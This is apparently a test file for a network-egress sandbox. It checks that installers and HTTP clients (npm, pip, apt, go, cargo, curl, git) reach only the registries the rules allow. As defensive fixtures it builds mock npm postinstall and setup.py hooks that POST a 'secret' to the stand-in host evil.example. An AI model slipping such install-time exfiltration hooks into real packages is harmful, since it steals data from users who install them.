@@ -1,0 +1,368 @@
+#!/usr/bin/env python3
+"""clients.t -- real clients and installers with scoped egress, without a proxy
+variable: what the rules name is had, from registries of the test's own over TLS
+(clients_world.py); what they do not name is refused, and told by name.
+
+usage: clients.t [CASE...]
+The quick tier runs a case as one launcher, in turn, and leaves out those of
+SLOW; else each runs as both.
+"""
+import json
+import os
+import shutil
+import sys
+
+sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
+sys.dont_write_bytecode = True
+import egress_world as world  # noqa: E402
+
+world.enter(os.path.abspath(__file__))
+import clients_packages as packages  # noqa: E402
+import clients_world as clients  # noqa: E402
+import lib  # noqa: E402
+
+CA = "/repo/ca.pem"
+EVIL = "evil.example"
+POST = ("require('https').request({host: '%s', method: 'POST', path: '/take'})"
+        ".on('error', e => { console.error(e.code); %s }).end('secret')")
+SETUP = """import urllib.request
+try:
+    urllib.request.urlopen("https://%s/take", b"secret")
+except OSError as e:
+    print("TOLD", e)
+from setuptools import setup
+setup(name="posts", version="1.0", py_modules=["posts"])
+""" % EVIL
+FETCH = """const say = async u => {
+  try { return (await (await fetch(u)).text()).trim() }
+  catch (e) { return e.cause ? e.cause.code : String(e) }
+}
+console.log(JSON.stringify([await say('https://site.example/page'),
+  await say('https://evil.example/'), await say('https://44.0.1.5/page'),
+  process.env.HTTPS_PROXY ?? process.env.https_proxy ?? null]))
+"""
+PYTHON = """import asyncio, json, os, ssl, urllib.request
+def get(url):
+    try:
+        return urllib.request.urlopen(url, timeout=20).read().decode().strip()
+    except OSError as e:
+        return type(getattr(e, "reason", e)).__name__
+async def stream(host):
+    try:
+        r, w = await asyncio.open_connection(
+            host, 443, ssl=ssl.create_default_context())
+    except OSError as e:
+        return type(e).__name__
+    w.write(b"GET /page HTTP/1.0\\r\\nHost: %s\\r\\n\\r\\n" % host.encode())
+    text = (await r.read()).decode()
+    w.close()
+    return text.rsplit("\\n", 2)[-2].strip()
+print(json.dumps([get("https://site.example/page"), get("https://evil.example/"),
+    asyncio.run(stream("site.example")), asyncio.run(stream("evil.example")),
+    [k for k in os.environ if k.lower().endswith("_proxy")]]))
+"""
+APT = """mkdir -p state/lists/partial cache/archives/partial conf &&
+echo "deb [trusted=yes] $1://deb.example/ ./" >conf/list &&
+set -- -o Dir::Etc::sourcelist=/scratch/conf/list -o Dir::Etc::main=/dev/null \
+  -o Dir::Etc::parts=/dev/null -o Dir::Etc::sourceparts=/dev/null \
+  -o Dir::State=/scratch/state -o Dir::State::status=/dev/null \
+  -o Dir::Cache=/scratch/cache -o Acquire::https::CAInfo=/repo/ca.pem \
+  -o Acquire::Retries=0 -o Acquire::EnableSrvRecords=false
+apt-get "$@" update && apt-get "$@" download hello-test &&
+dpkg-deb -I hello-test*.deb | grep '^ Package' || exit
+echo "deb [trusted=yes] http://evil.example/ ./" >conf/list
+apt-get "$@" update"""
+
+
+class World:
+    """The outside, with every registry filled, and one launcher."""
+
+    def __init__(self, tap):
+        self.tap, self.user = tap, None
+        self.directory = lib.make_dir("root")
+        self.authority, self.site, self.names = clients.make(self.directory)
+        site = self.site
+        site.put("site", "/page", "from the site\n")
+        self.npm = packages.Npm(site)
+        self.npm.add("posts", {"scripts": {"postinstall": "node post.js"}},
+                     {"post.js": POST % (EVIL, "process.exitCode = 3")})
+        self.npm.add("hides", {"scripts": {"postinstall": "node post.js"}},
+                     {"post.js": POST % (EVIL, "")})
+        packages.pip_put(site, "alpha", "alpha-1.0-py3-none-any.whl",
+                         packages.wheel("alpha", ["beta"]))
+        packages.pip_put(site, "beta", "beta-1.0-py3-none-any.whl",
+                         packages.wheel("beta"))
+        packages.pip_put(site, "posts", "posts-1.0.tar.gz",
+                         packages.sdist("posts", SETUP))
+        packages.git_put(site, "git", "/thing.git/", self.directory + "/git",
+                         {"README": "a repository\n"})
+        packages.deb_put(site, self.directory + "/hello")
+        packages.go_put(site)
+        packages.cargo_put(site, self.directory + "/index")
+
+    def repository(self, files=None):
+        path = lib.make_dir(self.user)
+        lib.put(self.user, path + "/ca.pem", self.authority.text)
+        for name, text in (files or {}).items():
+            to = os.path.join(path, name)
+            if os.path.dirname(to) != path:
+                os.makedirs(os.path.dirname(to), exist_ok=True)
+                lib.give(self.user, os.path.dirname(to))
+            lib.put(self.user, to, text)
+        return path
+
+    def run(self, profile, hosts, command, files=None, env=(), more=()):
+        """(result, {host or address: [(port, verdict, reason)]})"""
+        options = ["--repo", self.repository(files)]
+        options += ["--profile", profile] if profile else [
+            "--network", "scoped", "--chdir", "/scratch"]
+        for rule in hosts:
+            options += ["--egress", rule]
+        for pair in env:
+            options += ["--env", pair]
+        r = lib.cupel(options + list(more), command, self.user,
+                      before=world.ordinary(), clock_s=120)
+        book = {}
+        for e in (r.json or {}).get("egress") or []:
+            book.setdefault(e["host"] or e["address"], set()).add(
+                (e["port"], e["verdict"], e["reason"]))
+        return r, book
+
+    def ok(self, good, name, note=""):
+        return self.tap.ok(good, "%s [%s]" % (name, self.user), note)
+
+    def told(self, r, book, reached, name):
+        """What was reached is these hosts at 443, and EVIL was refused."""
+        want = {host: {(443, "allowed", None)} for host in reached}
+        want[EVIL] = {(None, "refused", "no_rule")}
+        return self.ok(book == want and not self.site.asked_of("evil") and
+                       EVIL not in self.names.asked,
+                       name + ": the result lists what was reached and what "
+                       "was refused, and nobody else saw it",
+                       "%s\nwanted %s\n%s" % (book, want, r.brief()))
+
+
+def said(r):
+    """What it printed last, as JSON, or whatever became of it."""
+    try:
+        return json.loads(r.json["stdout"].splitlines()[-1])
+    except (TypeError, ValueError, IndexError):
+        return r.brief()
+
+
+# --- programs that fetch -------------------------------------------------------------
+
+def curl(w):
+    r, book = w.run(None, ["site.example:443"], [
+        "sh", "-c", "curl -sS https://site.example/page; "
+        "curl -sS https://evil.example/; echo $?"],
+        env=["CURL_CA_BUNDLE=" + CA])
+    w.ok(r.json and r.json["stdout"] == "from the site\n6\n", "curl", r.brief())
+    w.told(r, book, ["site.example"], "curl")
+
+
+def wget(w):
+    r, book = w.run(None, ["site.example:443"], [
+        "sh", "-c", "wget -q -O - --ca-certificate=%s https://site.example/page"
+        "; wget -q -t 1 -O - https://evil.example/; echo $?" % CA])
+    w.ok(r.json and r.json["stdout"] == "from the site\n4\n", "wget", r.brief())
+    w.told(r, book, ["site.example"], "wget")
+
+
+def node_fetch(w):
+    r, book = w.run("default", ["site.example:443"], [
+        "node", "/repo/fetch.mjs"], {"fetch.mjs": FETCH},
+        ["NODE_EXTRA_CA_CERTS=" + CA],
+        ["--network", "scoped", "--as-bytes", "unlimited", "--data-bytes",
+         "unlimited", "--seccomp", "test"])
+    w.ok(said(r) == ["from the site", "ENOTFOUND", "ECONNREFUSED", None],
+         "fetch of node: the site, another name, its address", said(r))
+    book.pop("44.0.1.5", None)
+    w.told(r, book, ["site.example"], "fetch of node")
+
+
+def python(w):
+    r, book = w.run(None, ["site.example:443"], [
+        "/usr/bin/python3", "/repo/get.py"], {"get.py": PYTHON},
+        ["SSL_CERT_FILE=" + CA])
+    w.ok(said(r) == ["from the site", "gaierror", "from the site", "gaierror",
+                     []], "urllib and asyncio of python", said(r))
+    w.told(r, book, ["site.example"], "python")
+
+
+def git(w):
+    r, book = w.run(None, ["git.example:443"], [
+        "sh", "-c", "git clone -q https://git.example/thing.git t && "
+        "cat t/README; git clone -q https://evil.example/thing.git u; echo $?"],
+        env=["GIT_SSL_CAINFO=" + CA])
+    w.ok(r.json and r.json["stdout"] == "a repository\n128\n", "git clone",
+         r.brief())
+    w.told(r, book, ["git.example"], "git clone")
+
+
+# --- installers ----------------------------------------------------------------------
+
+NPM = ["npm_config_registry=https://npm.example/", "npm_config_cafile=" + CA]
+
+
+def npm_ci(w):
+    r, book = w.run("npm-install", ["npm.example:443"], [
+        "sh", "-c", "npm ci && node -p 'require(\"pkg0\") + "
+        "require(\"fs\").readdirSync(\"node_modules\").filter("
+        "n => n[0] != \".\").length'"],
+        w.npm.repository("pkg0"), NPM)
+    w.ok(r.status == "OK" and r.json["stdout"].endswith("\n%d\n" %
+                                                        packages.TREE),
+         "npm ci: a lockfile of the public registry, and one's own", r.brief())
+    w.ok(book == {"npm.example": {(443, "allowed", None)}},
+         "npm ci: the result lists one host", book)
+
+
+def npm_by_npmrc(w):
+    files = w.npm.repository("pkg0")
+    files[".npmrc"] = "registry=https://npm.example/\ncafile=ca.pem\n"
+    del files["package-lock.json"]
+    r, book = w.run("npm-install", ["npm.example:443"], ["npm", "install"],
+                    files)
+    w.ok(r.status == "OK" and book == {"npm.example": {(443, "allowed", None)}},
+         "npm install: a registry that .npmrc names", "%s\n%s" % (
+             book, r.brief()))
+
+
+def npm_that_posts(w):
+    r, book = w.run("npm-install", ["npm.example:443"], ["npm", "ci"],
+                    w.npm.repository("posts", "pkg0"), NPM)
+    w.ok(r.status == "FAILED" and "ENOTFOUND" in r.json["stderr"],
+         "npm ci fails by a postinstall that posts elsewhere", r.brief())
+    w.told(r, book, ["npm.example"], "npm ci with a postinstall that posts")
+    r, book = w.run("npm-install", ["npm.example:443"], ["npm", "ci"],
+                    w.npm.repository("hides", "pkg0"), NPM)
+    w.ok(r.status == "OK", "npm ci goes on where the postinstall says nothing",
+         r.brief())
+    w.told(r, book, ["npm.example"], "npm ci with a postinstall that hides it")
+    r, book = w.run("npm-install", ["npm.example:443", EVIL + ":443"],
+                    ["npm", "ci"], w.npm.repository("posts", "pkg0"),
+                    NPM + ["NODE_EXTRA_CA_CERTS=" + CA])
+    w.ok(r.status == "OK" and [a for a in w.site.asked_of("evil")
+                               if a[1:] == ("POST", "/take")],
+         "(control) where a rule lets it, it posts", r.brief())
+
+
+PIP = ["PIP_INDEX_URL=https://pypi.example/simple/", "PIP_CERT=" + CA]
+PIP_HOSTS = ["pypi.example:443", "files.example:443"]
+
+
+def pip(w):
+    r, book = w.run("pip-install", PIP_HOSTS, [
+        "sh", "-c", "/usr/bin/pip -q install --target t alpha && "
+        "PYTHONPATH=t /usr/bin/python3 -c 'import alpha, beta; "
+        "print(alpha.said, beta.said)' && "
+        "/usr/bin/pip -q download -d d beta && ls d"], env=PIP)
+    w.ok(r.json and r.json["stdout"] == "alpha beta\n"
+         "beta-1.0-py3-none-any.whl\n", "pip install, pip download", r.brief())
+    w.ok(book == {"pypi.example": {(443, "allowed", None)},
+                  "files.example": {(443, "allowed", None)}},
+         "pip: the result lists the index and its files", book)
+
+
+def pip_that_posts(w):
+    r, book = w.run("pip-install", PIP_HOSTS, [
+        "/usr/bin/pip", "-v", "install", "--no-build-isolation", "--target",
+        "t", "posts"], env=PIP)
+    w.ok(r.status == "OK" and "TOLD" in r.json["stderr"],
+         "pip install of a package whose setup.py posts elsewhere", r.brief())
+    w.told(r, book, ["pypi.example", "files.example"],
+           "pip install of one that posts")
+
+
+def apt(w):
+    for scheme, port in (("https", 443), ("http", 80)):
+        del w.site.asked[:]
+        r, book = w.run("apt-download", ["deb.example:%d" % port], [
+            "sh", "-c", APT, "sh", scheme], more=["--chdir", "/scratch"])
+        w.ok(r.json and "Package: hello-test" in r.json["stdout"] and
+             "Could not resolve 'evil.example'" in
+             r.json["stdout"] + r.json["stderr"],
+             "apt-get update and download by " + scheme, r.brief())
+        w.ok(book == {"deb.example": {(port, "allowed", None)},
+                      EVIL: {(None, "refused", "no_rule")}} and
+             not w.site.asked_of("evil"),
+             "apt-get by %s: what was reached, and what was refused" % scheme,
+             book)
+
+
+def go(w):
+    r, book = w.run("go-mod-download", ["goproxy.example:443"], [
+        "sh", "-c", "go mod download -x all && ls /scratch/go/pkg/mod/"
+        "mod.example; GOPROXY=https://evil.example/ GOFLAGS=-modcacherw "
+        "GOMODCACHE=/scratch/other go mod download; echo $?"],
+        {"go.mod": "module app.example/app\n\ngo 1.18\n\n"
+                   "require mod.example/thing v1.0.0\n"},
+        ["GOPROXY=https://goproxy.example", "GONOSUMDB=*", "GOFLAGS=-mod=mod",
+         "SSL_CERT_FILE=" + CA])
+    w.ok(r.json and r.json["stdout"] == "thing@v1.0.0\n1\n", "go mod download",
+         r.brief())
+    w.told(r, book, ["goproxy.example"], "go mod download")
+
+
+def cargo_of(text, sparse):
+    """A crate that needs one of the registry's."""
+    index = ("sparse+https://crates.example/sparse/" if sparse
+             else "https://crates.example/index.git")
+    return {"Cargo.toml": text, "src/lib.rs": "",
+            ".cargo/config.toml":
+                '[source.crates-io]\nreplace-with = "own"\n'
+                '[source.own]\nregistry = "%s"\n'
+                '[net]\ngit-fetch-with-cli = true\n' % index}
+
+
+def cargo(w):
+    p = lib.run([shutil.which("cargo", path=PATH), "--version"], w.user)
+    words = p.out.split()
+    if p.rc or len(words) < 2:
+        w.tap.ok(True, "cargo [%s] # SKIP it does not run here" % w.user)
+        return
+    minor = int(words[1].split(b".")[1])
+    text = ('[package]\nname = "app"\nversion = "1.0.0"\nedition = "2018"\n'
+            '[dependencies]\nthing = "1"\n')
+    r, book = w.run("cargo-fetch", ["crates.example:443",
+                                    "static.example:443"], [
+        "sh", "-c", "cargo fetch && ls $CARGO_HOME/registry/src/*; "
+        "curl -sS https://evil.example/; echo $?"],
+        cargo_of(text, minor >= 68),
+        ["CARGO_HTTP_CAINFO=" + CA, "GIT_SSL_CAINFO=" + CA])
+    w.ok(r.json and r.json["stdout"].endswith("thing-1.0.0\n6\n"),
+         "cargo fetch", r.brief())
+    w.told(r, book, ["crates.example", "static.example"], "cargo fetch")
+
+
+PATH = "/usr/local/bin:/usr/bin:/bin"
+CASES = ((curl, "curl"), (wget, "wget"), (node_fetch, "node"),
+         (python, "python3"), (git, "git"), (npm_ci, "npm"),
+         (npm_by_npmrc, "npm"), (npm_that_posts, "npm"), (pip, "pip"),
+         (pip_that_posts, "pip"), (apt, "apt-get"), (go, "go"),
+         (cargo, "cargo"))
+SLOW = (go, cargo)
+
+
+def main():
+    tap, only = lib.Tap(), sys.argv[1:]
+    w = World(tap)
+    users = lib.users()
+    is_full = os.environ.get("CUPEL_TIER") != "quick"
+    for i, (case, program) in enumerate(CASES):
+        if (only and case.__name__ not in only) or (
+                case in SLOW and not is_full):
+            continue
+        if not shutil.which(program, path=PATH):
+            tap.ok(True, "%s # SKIP %s is not installed" % (case.__name__,
+                                                            program))
+            continue
+        for w.user in users:
+            if lib.is_due(i, w.user, users):
+                del w.site.asked[:], w.names.asked[:]
+                case(w)
+    tap.done()
+
+
+main()
